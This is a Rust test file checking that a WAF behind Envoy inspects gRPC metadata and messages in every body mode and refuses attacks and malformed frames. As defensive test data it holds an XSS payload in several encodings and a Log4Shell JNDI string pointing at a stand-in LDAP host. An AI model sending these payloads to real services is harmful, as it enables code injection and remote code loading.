//! Calls of gRPC through Envoy, in each body mode in which it can be set up: metadata and messages are inspected, and
//! messages arrive one by one and unchanged.

use std::time::Duration;

use glacis_tests::grpc::{Client, FAIL, NOTES, REPEATED, TRAILER};
use glacis_tests::http::Request;
use glacis_tests::stack::{Ports, Processor, Stack};
use glacis_tests::{http2, native};
use tokio::time::timeout;
use tonic::{Code, Status};

use crate::support::{Own, access_log, client, eventually, folder};

/// By default CRS refuses the media type, and bodies are read to their end: a profile for gRPC has to allow the one and
/// leave out the other.
const KEYS: &str = "
grpc: pass
setup: |
  SecAction \"id:900220,phase:1,pass,nolog,setvar:'tx.allowed_request_content_type=|application/grpc|'\"
";

/// The modes of bodies, of requests and responses alike, and whether trailers are sent.
const MODES: [(&str, &str, &str); 5] = [
    ("none", "NONE", "SKIP"),
    ("streamed", "STREAMED", "SEND"),
    ("buffered", "BUFFERED", "SEND"),
    ("partial", "BUFFERED_PARTIAL", "SEND"),
    ("duplex", "FULL_DUPLEX_STREAMED", "SEND"),
];

const CLUSTERS: (&str, &str) = (
    "  clusters:\n",
    r#"  clusters:
  - name: grpc-upstream
    type: STATIC
    load_assignment:
      cluster_name: grpc-upstream
      endpoints: [{lb_endpoints: [{endpoint: {address: {socket_address: {address: 127.0.0.1, port_value: UPSTREAM}}}}]}]
    typed_extension_protocol_options:
      envoy.extensions.upstreams.http.v3.HttpProtocolOptions:
        "@type": type.googleapis.com/envoy.extensions.upstreams.http.v3.HttpProtocolOptions
        explicit_http_config: {http2_protocol_options: {}}
"#,
);

/// The routes, one for each mode, and before them what shows whether the answer to the headers changes it.
fn routes() -> String {
    let route = |(name, body, trailers): &(&str, &str, &str)| {
        format!(
            r#"              - name: {name}
                match: {{prefix: /{name}/}}
                route: {{cluster: grpc-upstream, timeout: 0s}}
                typed_per_filter_config:
                  envoy.filters.http.ext_proc:
                    "@type": type.googleapis.com/envoy.extensions.filters.http.ext_proc.v3.ExtProcPerRoute
                    overrides:
                      processing_mode:
                        request_header_mode: SEND
                        response_header_mode: SEND
                        request_body_mode: {body}
                        response_body_mode: {body}
                        request_trailer_mode: {trailers}
                        response_trailer_mode: {trailers}
"#
        )
    };
    let routes: String = MODES.iter().map(route).collect();
    format!("{routes}              - name: closed\n")
}

fn start(name: &str, keys: &'static str) -> Own {
    let ports = Ports::free().unwrap();
    let clusters = CLUSTERS.1.replace("UPSTREAM", &ports.upstream.to_string());
    let edits = [(CLUSTERS.0, &*clusters), ("              - name: closed\n", &routes())];
    Own::on(name, ports, Processor::ExtProcWith(keys), &edits)
}

/// The route of calls behind the native module.
const NATIVE: &str = "native";

fn start_native(name: &str) -> Own {
    let ports = Ports::free().unwrap();
    let clusters = CLUSTERS.1.replace("UPSTREAM", &ports.upstream.to_string());
    let route = format!(
        "              - name: {NATIVE}\n                match: {{prefix: /{NATIVE}/}}\n                \
         route: {{cluster: grpc-upstream, timeout: 0s}}\n\n              - name: closed\n"
    );
    let edits = [(CLUSTERS.0, &*clusters), ("              - name: closed\n", &*route)];
    Own(native::start(&folder(name), ports, &[], &edits).unwrap())
}

fn run(test: impl Future<Output = ()>) {
    let runtime = tokio::runtime::Builder::new_current_thread().enable_all().build().unwrap();
    runtime.block_on(async { timeout(Duration::from_secs(30), test).await.unwrap() });
}

/// A message longer than one frame of HTTP/2.
fn long(word: &str) -> String {
    word.repeat(40_000 / word.len())
}

fn request(message: &str) -> tonic::Request<String> {
    let mut request = tonic::Request::new(message.to_owned());
    request.metadata_mut().insert(NOTES[0], "a note".parse().unwrap());
    let bytes = tonic::metadata::MetadataValue::from_bytes(b"\x00\xff<script>");
    request.metadata_mut().insert_bin(NOTES[1], bytes);
    request
}

#[test]
fn calls_work_in_each_mode() {
    let own = start("grpc", KEYS);
    run(async {
        for (mode, ..) in MODES {
            calls_work(&own.0, mode, SCRIPT)
                .await
                .unwrap_or_else(|status| panic!("{mode}: {status:?}"));
        }
        refused(&own.0).await;
    });
    passes_are_counted(&own.0);
    nobody_there(own);
}

/// The defaults: every message is inspected, in calls of every kind.
#[test]
fn messages_are_inspected_in_each_mode() {
    let own = start("grpc-messages", "");
    run(async {
        for (mode, ..) in MODES {
            calls_work(&own.0, mode, "no attack")
                .await
                .unwrap_or_else(|status| panic!("{mode}: {status:?}"));
            attacks_are_refused(&own.0, mode).await;
        }
        refused(&own.0).await;
    });
    for (mode, ..) in MODES {
        frames_are_inspected(&own.0, mode);
    }
}

#[test]
fn messages_are_inspected_natively() {
    let own = start_native("grpc-native");
    run(async {
        calls_work(&own.0, NATIVE, "no attack").await.unwrap_or_else(|status| panic!("{status:?}"));
        attacks_are_refused(&own.0, NATIVE).await;
    });
    frames_are_inspected(&own.0, NATIVE);
}

/// What passes where messages are not inspected.
const SCRIPT: &str = "<script>alert(1)</script>";

/// A message that is an attack ends the call, wherever it stands: the upstream does not get it.
async fn attacks_are_refused(stack: &Stack, mode: &str) {
    let prefix = format!("/{mode}/glacis.test.Text/");
    let mut calls = Client::connect(stack.proxy(), &prefix).await.unwrap();
    for attack in [SCRIPT, &*(long("and more ") + SCRIPT), &*(SCRIPT.to_owned() + &long("or "))] {
        let status = calls.unary(request(attack)).await.unwrap_err();
        assert_eq!(status.code(), Code::PermissionDenied, "{mode}: {status:?}");
        assert!(status.message().starts_with("Forbidden; request "), "{mode}: {status:?}");
        let messages = vec!["one".to_owned(), attack.to_owned(), "two".to_owned()];
        let status = calls.collect(messages).await.unwrap_err();
        assert_eq!(status.code(), Code::PermissionDenied, "{mode}: {status:?}");
        let status = calls.repeat(request(attack)).await.unwrap_err();
        assert_eq!(status.code(), Code::PermissionDenied, "{mode}: {status:?}");
        // The answer has begun: Envoy can only end the stream.
        let mut chat = calls.chat("hello").await.unwrap();
        assert_eq!(chat.hear().await.unwrap().as_deref(), Some("hello"), "{mode}");
        chat.say(attack).await.unwrap();
        chat.hear().await.unwrap_err();
    }
}

/// A frame of gRPC.
fn frame(flags: u8, message: &[u8]) -> Vec<u8> {
    let length = u32::try_from(message.len()).unwrap().to_be_bytes();
    [&[flags], &length[..], message].concat()
}

/// What no client of gRPC writes by mistake, with the code of the answer. With this media type the upstream reads all
/// before it answers.
fn frames_are_inspected(stack: &Stack, mode: &str) {
    let script = [b"\x0a\x19", SCRIPT.as_bytes()].concat();
    let nested = [b"\x12\x1b", &script[..]].concat();
    let gzip =
        b"\x1f\x8b\x08\x00\x00\x00\x00\x00\x02\x03\xe3\x92\xb4\x29\x4e\x2e\xca\x2c\x28\xb1\x4b\
        \xcc\x49\x2d\x2a\xd1\x30\xd4\xb4\xd1\x87\x0a\x00\x00\x11\x82\x6f\x0a\x1b\x00\x00\x00";
    for (name, encoding, body, code) in [
        ("an attack", "identity", frame(0, &script), "7"),
        ("in a message within", "identity", frame(0, &nested), "7"),
        (
            "behind many messages",
            "identity",
            [frame(0, b"").repeat(999), frame(0, &script)].concat(),
            "7",
        ),
        ("compressed", "gzip", frame(1, gzip), "7"),
        ("in a coding that nobody knows", "snappy", frame(1, b"\x01\x00a"), "3"),
        ("compressed by nothing", "identity", frame(1, &script), "3"),
        ("with flags that no client sets", "identity", frame(0x80, b""), "3"),
        ("cut off", "identity", frame(0, &script)[..20].to_vec(), "3"),
        ("no message", "identity", frame(0, b"\x07"), "3"),
        ("too large", "identity", vec![0, 0, 0xc8, 0, 0], "8"),
    ] {
        let from = client();
        let path = format!("/{mode}/glacis.test.Text/Collect");
        let request = Request::post(&path, "application/grpc+proto", body)
            .header("te", "trailers")
            .header("grpc-encoding", encoding);
        let answer = http2::send(from, stack.proxy(), &request).unwrap();
        let line = access_log(stack, &[from]).remove(0);
        assert_eq!(answer.header("grpc-status"), Some(code), "{mode}: {name}: {answer:?} {line}");
        let verdict = if code == "8" { "reject" } else { "deny" };
        assert_eq!(line["glacis"]["verdict"], verdict, "{mode}: {name}: {line}");
    }
}

async fn calls_work(stack: &Stack, mode: &str, word: &str) -> Result<(), Status> {
    let prefix = format!("/{mode}/glacis.test.Text/");
    let mut calls = Client::connect(stack.proxy(), &prefix).await.unwrap();

    let echoed = calls.unary(request(&long("word "))).await?;
    assert_eq!(echoed.messages, [long("word ")], "{mode}");
    assert_eq!(echoed.metadata.get(NOTES[0]).unwrap(), "a note", "{mode}");
    let bytes = echoed.metadata.get_bin(NOTES[1]).unwrap().to_bytes().unwrap();
    assert_eq!(&bytes[..], b"\x00\xff<script>", "{mode}");

    let messages = vec![word.to_owned(), String::new(), long("and more ")];
    let collected = calls.collect(messages.clone()).await?;
    assert_eq!(collected.messages, [messages.concat()], "{mode}");

    let repeated = calls.repeat(request("again ")).await?;
    assert_eq!(repeated.messages.len(), REPEATED, "{mode}");

    // What is said is heard before more is said: nobody on the way waits for an end.
    let mut chat = calls.chat("hello").await?;
    assert_eq!(chat.hear().await?.as_deref(), Some("hello"), "{mode}");
    for message in ["and again", "", &long("at length ")] {
        chat.say(message).await?;
        assert_eq!(chat.hear().await?.as_deref(), Some(message), "{mode}");
    }
    assert_eq!(chat.end().await?, None, "{mode}");

    let mut chat = calls.chat("hello").await?;
    assert_eq!(chat.hear().await?.as_deref(), Some("hello"), "{mode}");
    chat.say(FAIL).await?;
    let status = chat.hear().await.unwrap_err();
    assert_eq!((status.code(), status.message()), (Code::FailedPrecondition, "as asked for"));
    assert_eq!(status.metadata().get(TRAILER).unwrap(), "asked for", "{mode}");
    Ok(())
}

const ATTACK: &str = "${jndi:ldap://192.0.2.1/a}";

/// The client is told in the words of gRPC.
async fn refused(stack: &Stack) {
    for (mode, ..) in MODES {
        let prefix = format!("/{mode}/glacis.test.Text/");
        let mut calls = Client::connect(stack.proxy(), &prefix).await.unwrap();
        let mut request = request("hello");
        request.metadata_mut().insert(NOTES[0], ATTACK.parse().unwrap());
        let status = calls.repeat(request).await.unwrap_err();
        assert_eq!(status.code(), Code::PermissionDenied, "{mode}: {status:?}");
        assert!(status.message().starts_with("Forbidden; request "), "{mode}: {status:?}");
    }
    let to = stack.proxy();
    let answer = tokio::task::spawn_blocking(move || {
        let request = Request::post("/none/glacis.test.Text/Echo", "application/grpc", "");
        let request = request.header("te", "trailers").header(NOTES[0], ATTACK);
        http2::send(client(), to, &request).unwrap()
    });
    let answer = answer.await.unwrap();
    assert_eq!((answer.status, answer.body.len()), (200, 0), "{answer:?}");
    assert_eq!(answer.header("content-type"), Some("application/grpc"), "{answer:?}");
    assert_eq!(answer.header("grpc-status"), Some("7"), "{answer:?}");
}

/// That messages pass uninspected is no secret.
fn passes_are_counted(stack: &Stack) {
    let name = r#"glacis_uninspected_total{reason="grpc_body"}"#;
    // Five calls that pass, and one that is refused with its messages unseen.
    let calls = MODES.len() as f64 * 6.0;
    eventually("each call is counted", Duration::from_secs(5), || {
        stack.ext_proc.as_ref().unwrap().metrics().unwrap()[name] == calls
    });
}

/// What could not be checked is refused in these words as well.
fn nobody_there(mut own: Own) {
    own.0.ext_proc.as_mut().unwrap().process().kill();
    run(async {
        let mut calls = Client::connect(own.0.proxy(), "/none/glacis.test.Text/").await.unwrap();
        let status = calls.unary(request("hello")).await.unwrap_err();
        assert_eq!(status.code(), Code::Unavailable, "{status:?}");
    });
}
